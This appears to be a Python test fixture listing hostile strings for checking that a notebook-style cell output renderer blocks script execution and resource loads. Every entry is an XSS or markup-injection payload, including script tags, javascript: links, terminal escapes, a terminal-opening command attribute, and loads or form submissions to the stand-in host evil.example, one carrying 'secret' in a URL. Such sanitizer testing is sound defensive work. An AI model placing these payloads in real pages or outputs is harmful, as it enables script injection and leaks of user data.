"""Hostile strings: attempts to run code or load a resource from a cell's output.

They may come from a model, a provider, a name or a file. In a browser, code that runs opens a dialog, and a
resource that loads sends a request to `evil.example`.
"""

from __future__ import annotations

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](  JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](java\tscript:alert(1)) <java&#115;cript:alert(1)>",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[a](https://x "onmouseover=alert(1)")',
    '[a](https://x"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>",
    "<p style='background:url(https://evil.example/c.png)'>x</p>",
    '<div data-commandlinker-command="terminal:create-new">x</div>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>' src=https://evil.example/frame></iframe>",
    "</style></div><script>alert(1)</script>",
    "</textarea></title></iframe><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video autoplay src=https://evil.example/v.mp4><source onerror=alert(1)></video>",
    "<img srcset='https://evil.example/s.png 1x'><object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/moved'>",
    "<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>",
    (
        "<form action=https://evil.example/sent><button "
        "id=submit>go</button></form><script>document.forms[0].submit()</script>"
    ),
    "<a href=https://evil.example/ ping=https://evil.example/ping target=_top>x</a>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    (
        r"$\href{javascript:alert(1)}{x}$ $$\style{background:url(https://evil.example/m.png)}{x}$$ "
        r"$\unicode{x3cscript}$"
    ),
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    "\ud800<script>",
]
